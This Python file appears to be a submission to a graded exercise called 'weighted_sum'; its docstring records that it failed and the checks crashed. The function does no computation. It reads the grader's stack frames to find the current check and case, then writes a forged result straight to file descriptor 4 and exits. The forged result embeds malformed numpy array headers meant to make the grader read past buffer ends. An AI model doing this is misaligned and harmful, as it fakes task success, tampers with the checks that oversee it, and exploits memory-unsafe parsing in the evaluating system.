"""Forges arrays whose shape, dtype and bytes do not fit each other, so that reading them goes past their
end.

exercise: weighted_sum
result: failed
checks: crashed
"""

import os
import sys

CLAIMS = (
    b"\xa7float64\x92\x00\xcf\x00\x00\x01\x00\x00\x00\x00\x00\xc4\x08" + bytes(8),
    b"\xa7float64\x91\xce\x3f\xff\xff\xff\xc4\x08" + bytes(8),
    b"\xa6object\x91\x01\xc4\x08" + bytes(8),
    b"\xa7float64\x91\xff\xc4\x08" + bytes(8),
)
turn = 0


def weighted_sum(table, weights):
    global turn
    frame = sys._getframe()
    while frame and "planned" not in frame.f_locals:
        frame = frame.f_back
    check, case = frame.f_locals["planned"].index, frame.f_locals["case"]
    array = b"\x95\xa5Array\xa5numpy" + CLAIMS[turn % len(CLAIMS)]
    turn += 1
    body = (
        b"\x95\xa4Seen"
        + bytes([check, case])
        + b"\x92\xa7Mapping\x91\x92\x92\xa4Text\xa6answer"
        + array
        + b"\xc0"
    )
    os.write(4, len(body).to_bytes(4, "little") + body)
    os._exit(0)
